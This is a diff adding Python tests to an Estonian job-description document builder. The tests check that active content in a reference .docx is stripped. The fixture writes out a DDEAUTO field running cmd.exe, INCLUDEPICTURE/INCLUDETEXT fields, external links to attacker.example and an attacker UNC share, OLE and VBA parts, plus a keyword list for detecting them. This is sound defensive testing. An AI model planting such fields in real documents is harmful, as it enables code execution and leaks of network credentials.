@@ -145,3 +145,216 @@ def test_textconv_in_git_diff_survives_a_hostile_docx(
     ]
     path = hostile(docx_parts, ODD[0][1], project / "x.docx")
     assert "Teenusejuht" in docx_to_text(path.read_bytes())
+
+
+# --- a reference document that plants active content (issue 27) ----------------
+
+REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+MS_REL = "http://schemas.microsoft.com/office/2006/relationships"
+NS = (
+    'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
+    f'xmlns:r="{REL}" xmlns:o="urn:schemas-microsoft-com:office:office" '
+    'xmlns:v="urn:schemas-microsoft-com:vml" '
+    'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
+    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
+    'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"'
+)
+PNG = b"\x89PNG\r\n\x1a\nKEPT-LOGO"
+
+
+def _run(text: str) -> str:
+    return f'<w:r><w:t xml:space="preserve">{text}</w:t></w:r>'
+
+
+def _complex(instruction: str, result: str = "") -> str:
+    return (
+        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+        f'<w:r><w:instrText xml:space="preserve"> {instruction} </w:instrText></w:r>'
+        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
+        + _run(result)
+        + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
+    )
+
+
+def _picture(attribute: str) -> str:
+    return (
+        '<w:r><w:drawing><wp:inline><wp:extent cx="10" cy="10"/><wp:docPr id="1" name="x"/>'
+        '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/'
+        'picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="x"/><pic:cNvPicPr/>'
+        f"</pic:nvPicPr><pic:blipFill><a:blip {attribute}/></pic:blipFill><pic:spPr/>"
+        "</pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>"
+    )
+
+
+HEADER = (
+    f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:hdr {NS}><w:p>'
+    + _run("Päis ")
+    + _complex('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"')
+    + _complex('INCLUDEPICTURE "http://attacker.example/p.png" \\d', "pilt")
+    + '<w:fldSimple w:instr=" INCLUDETEXT \\\\\\\\attacker\\\\share\\\\x.docx "><w:r><w:t>'
+    "tekst</w:t></w:r></w:fldSimple>"
+    + _complex("PAGE", "1")
+    + '<w:hyperlink r:id="rId9">'
+    + _run("link")
+    + "</w:hyperlink>"
+    + _picture('r:embed="rId1"')
+    + _picture('r:link="rId8"')
+    + _picture('r:embed="rId2"')
+    + _picture('r:embed="rId3"')
+    + '<w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" r:id="rId4"/></w:object></w:r>'
+    + '<w:r><w:pict><v:shape><v:imagedata o:href="\\\\attacker\\share\\x.png"/></v:shape>'
+    "</w:pict></w:r>"
+    + '<w:sdt><w:sdtPr><w:dataBinding w:xpath="/a" w:storeItemID="{1}"/></w:sdtPr>'
+    "<w:sdtContent>" + _run("seotud") + "</w:sdtContent></w:sdt></w:p></w:hdr>"
+)
+HEADER_RELS = (
+    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+    f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+    f'<Relationship Id="rId1" Type="{REL}/image" Target="media/logo.png"/>'
+    f'<Relationship Id="rId2" Type="{REL}/image" Target="../customXml/item1.xml"/>'
+    f'<Relationship Id="rId3" Type="{REL}/image" Target="vbaProject.bin"/>'
+    f'<Relationship Id="rId4" Type="{REL}/oleObject" Target="embeddings/oleObject1.bin"/>'
+    f'<Relationship Id="rId8" Type="{REL}/image" Target="http://attacker.example/x.png" '
+    'TargetMode="External"/>'
+    f'<Relationship Id="rId9" Type="{REL}/hyperlink" Target="file://attacker/share/x" '
+    'TargetMode="External"/>'
+    "</Relationships>"
+)
+OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1ACTIVE-CONTENT"
+
+
+def hostile_reference() -> bytes:
+    """Return the built-in reference document with active content in a header and settings."""
+    from ametijuhend_cli.render.package import write_package
+    from ametijuhend_cli.render.reference import reference_parts
+
+    parts = reference_parts()
+    parts["word/header1.xml"] = HEADER.encode()
+    parts["word/_rels/header1.xml.rels"] = HEADER_RELS.encode()
+    parts["word/media/logo.png"] = PNG
+    parts["customXml/item1.xml"] = b"<sharepoint>ACTIVE-CONTENT</sharepoint>"
+    parts["word/vbaProject.bin"] = OLE
+    parts["word/embeddings/oleObject1.bin"] = OLE
+    rels = parts["word/_rels/document.xml.rels"].decode()
+    parts["word/_rels/document.xml.rels"] = rels.replace(
+        "</Relationships>",
+        f'<Relationship Id="rId20" Type="{REL}/header" Target="header1.xml"/>'
+        f'<Relationship Id="rId21" Type="{MS_REL}/vbaProject" Target="vbaProject.bin"/>'
+        "</Relationships>",
+    ).encode()
+    document = parts["word/document.xml"].decode()
+    parts["word/document.xml"] = re.sub(
+        "<w:sectPr([^>]*)>",
+        r'<w:sectPr\1><w:headerReference w:type="default" r:id="rId20"/>'
+        r'<w:headerReference w:type="first" r:id="rId77"/>',
+        document,
+    ).encode()
+    settings = parts["word/settings.xml"].decode()
+    parts["word/settings.xml"] = re.sub(
+        "(<w:settings[^>]*>)", r'\1<w:updateFields w:val="true"/>', settings
+    ).encode()
+    types = parts["[Content_Types].xml"].decode()
+    parts["[Content_Types].xml"] = types.replace(
+        "</Types>",
+        '<Default Extension="png" ContentType="image/png"/>'
+        '<Default Extension="bin" ContentType="image/png"/>'
+        '<Override PartName="/word/header1.xml" ContentType="application/vnd.openxmlformats-'
+        'officedocument.wordprocessingml.header+xml"/>'
+        '<Override PartName="/customXml/item1.xml" ContentType="image/png"/></Types>',
+    ).encode()
+    return write_package(parts)
+
+
+ACTIVE = [
+    b"DDEAUTO",
+    b"INCLUDEPICTURE",
+    b"INCLUDETEXT",
+    b"updateFields",
+    b"attacker",
+    b"vbaProject",
+    b"customXml",
+    b"oleObject",
+    b"OLEObject",
+    b"ACTIVE-CONTENT",
+    b"dataBinding",
+    b"hyperlink",
+    b"r:link",
+]
+
+
+def _references_resolve(z: zipfile.ZipFile) -> None:
+    """Assert that every r: reference of every part names a relationship of that part."""
+    names = set(z.namelist())
+    for name in names:
+        if not name.endswith(".xml") or "_rels" in name:
+            continue
+        folder, _, base = name.rpartition("/")
+        rels_name = f"{folder}/_rels/{base}.rels"
+        ids = set(re.findall(rb'Id="([^"]+)"', z.read(rels_name))) if rels_name in names else set()
+        for found in re.findall(rb'r:(?:id|embed|link|pict)="([^"]+)"', z.read(name)):
+            assert found in ids, (name, found)
+
+
+def test_a_reference_document_plants_no_active_content(project: Path) -> None:
+    (project / "templates").mkdir()
+    (project / "templates/reference.docx").write_bytes(hostile_reference())
+    result = run("build", "--format", "docx")
+    assert result.exit_code == 0, result.output
+    warning = result.stderr.splitlines()[0]
+    assert warning.startswith(
+        "templates/reference.docx: warning: left out of every document (a job description "
+        "takes from the reference document only what styling needs): "
+    )
+    for said in (
+        "the field DDEAUTO in word/header1.xml",
+        "the field INCLUDEPICTURE in word/header1.xml",
+        "the field INCLUDETEXT in word/header1.xml",
+        "updateFields (fields refreshed on opening) in word/settings.xml",
+        "the part 'customXml/item1.xml', which is not the image it claims to be",
+        "the part 'word/vbaProject.bin', which is not the image it claims to be",
+        "the external link 'file://attacker/share/x'",
+        "an embedded object (OLE) in word/header1.xml",
+        "a linked picture in word/header1.xml",
+        "a data binding (customXml) in word/header1.xml",
+        "the part 'word/vbaProject.bin' (vbaProject) in word/_rels/document.xml.rels",
+    ):
+        assert said in warning, said
+    with zipfile.ZipFile(project / "out/teenusejuht-kov.docx") as z:
+        blob = b"".join(z.read(n) for n in sorted(z.namelist()))
+        header = z.read("word/header1.xml").decode()
+        _references_resolve(z)
+        assert "word/media/logo.png" in z.namelist()
+    for active in ACTIVE:
+        assert active not in blob, active
+    # what stays: the text of the fields' results and of the link, the page number, the logo
+    for text in ("Päis ", "pilt", "tekst", "link", "seotud"):
+        assert f">{text}</w:t>" in header
+    assert " PAGE " in header
+    assert header.count("<w:drawing>") == 1
+    # the headerReference to a part that does not exist is gone from the section too
+    with zipfile.ZipFile(project / "out/teenusejuht-kov.docx") as z:
+        assert b"rId77" not in z.read("word/document.xml")
+
+
+def test_a_reference_with_active_content_fails_under_strict(project: Path) -> None:
+    (project / "templates").mkdir()
+    (project / "templates/reference.docx").write_bytes(hostile_reference())
+    result = run("validate", "--strict")
+    assert result.exit_code == 1
+    assert "templates/reference.docx: warning: left out of every document" in result.stderr
+
+
+def test_the_generated_documents_are_valid_ooxml(project: Path) -> None:
+    from openxml_audit import OpenXmlValidator
+
+    (project / "templates").mkdir()
+    (project / "templates/reference.docx").write_bytes(hostile_reference())
+    assert run("build", "teenusejuht-kov", "--format", "docx").exit_code == 0
+    errors = OpenXmlValidator().validate(str(project / "out/teenusejuht-kov.docx")).errors
+    assert [str(e) for e in errors] == []
+
+
+def test_the_built_in_reference_document_loses_nothing(project: Path) -> None:
+    result = run("build", "--format", "docx")
+    assert result.exit_code == 0
+    assert "warning" not in result.stderr
